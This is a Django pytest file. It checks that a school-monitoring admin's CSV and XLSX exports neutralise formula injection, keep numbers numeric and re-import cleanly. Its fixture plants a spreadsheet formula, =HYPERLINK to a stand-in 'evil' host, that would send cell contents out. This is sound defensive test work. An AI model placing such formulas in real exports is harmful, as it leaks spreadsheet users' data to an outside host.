"""The admin's CSV and XLSX exports (django-import-export) carry text, never formulas."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from monitoring.models import ExamResult
from schools.models import Organisation
from schools.spreadsheets import TextCSV, TextXLSX

pytestmark = pytest.mark.django_db

NAME = '=HYPERLINK("http://evil/?"&A1,"x")'
SHORT = "+7 999 123-45-67"


@pytest.fixture
def hostile():
    school = Organisation.objects.get(name="МОБУ СОШ № 6")
    school.name, school.short_name = NAME, SHORT
    school.save(update_fields=["name", "short_name"])
    ExamResult.objects.create(
        school=school, year=2025, exam="ОГЭ", subject="-знакомство", grade=9, participants=41
    )
    return school


def _export(client, url_name: str, fmt) -> bytes:
    url = reverse(url_name)
    form = client.get(url).context["form"]
    index = next(i for i, label in form.fields["format"].choices if label == fmt().get_title())
    data = {"format": index, "resource": 0}
    data |= {
        name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)
    }
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


@pytest.mark.parametrize(
    ("url_name", "text"),
    [("admin:schools_organisation_export", NAME), ("admin:monitoring_examresult_export", "-знакомство")],
)
def test_the_admin_xlsx_has_no_formula_and_the_texts_as_typed(client, superuser, hostile, url_name, text):
    client.force_login(superuser)
    book = load_workbook(io.BytesIO(_export(client, url_name, TextXLSX)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert text in {c.value for c in cells if c.data_type == "s"}


def test_the_admin_xlsx_keeps_numbers_numbers(client, superuser, hostile):
    client.force_login(superuser)
    book = load_workbook(io.BytesIO(_export(client, "admin:monitoring_examresult_export", TextXLSX)))
    header, *rows = book.active.iter_rows()
    column = [c.value for c in header].index("participants")
    assert [(r[column].value, r[column].data_type) for r in rows if r[column].value == 41] == [(41, "n")]


def test_the_admin_csv_neutralises_a_formula_start(client, superuser, hostile):
    client.force_login(superuser)
    text = _export(client, "admin:schools_organisation_export", TextCSV).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'" + NAME, "'" + SHORT] == [
        v for v in next(r for r in rows if "'" + NAME in r) if v.startswith("'")
    ]
    assert all(line.startswith('"') for line in text.splitlines() if line)


def test_the_admin_imports_its_own_xlsx_back_with_empty_texts_kept_empty(client, superuser):
    """A school with no short name, e-mail or site goes out and comes back unchanged, and a
    change made in the file is saved (before, the empty cells came back as None and the import
    failed on «NOT NULL constraint failed: schools_organisation.short_name»)."""
    school = Organisation.objects.get(name="МОБУ СОШ № 6")
    school.short_name, school.email, school.website = "", "", ""
    school.save(update_fields=["short_name", "email", "website"])
    client.force_login(superuser)
    book = load_workbook(io.BytesIO(_export(client, "admin:schools_organisation_export", TextXLSX)))
    header, *rows = [list(r) for r in book.active.iter_rows(values_only=True)]
    row = next(r for r in rows if r[header.index("Полное название")] == "МОБУ СОШ № 6")
    assert row[header.index("Краткое название")] in (None, "")  # an empty cell, as Excel keeps it
    row[header.index("Сайт")] = "https://school6.example.ru"
    edited = Workbook()
    edited.active.append(header)
    edited.active.append(row)
    out = io.BytesIO()
    edited.save(out)

    url = reverse("admin:schools_organisation_import")
    form = client.get(url).context["form"]
    index = next(i for i, label in form.fields["format"].choices if label == TextXLSX().get_title())
    upload = SimpleUploadedFile("школы.xlsx", out.getvalue())
    response = client.post(url, {"import_file": upload, "format": index, "resource": 0})
    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    confirm = response.context["confirm_form"]
    done = client.post(reverse("admin:schools_organisation_process_import"), confirm.initial)
    assert done.status_code == 302
    school.refresh_from_db()
    assert (school.short_name, school.email, school.website) == ("", "", "https://school6.example.ru")


def test_a_control_character_excel_refuses_is_said_in_russian(client, superuser):
    school = Organisation.objects.get(name="МОБУ СОШ № 6")
    school.short_name = "СОШ\x01№ 6"
    school.save(update_fields=["short_name"])
    client.force_login(superuser)
    page = _export(client, "admin:schools_organisation_export", TextXLSX).decode()
    assert "Выгрузка в XLSX не удалась: в тексте есть управляющий символ" in page
    assert "IllegalCharacterError" not in page
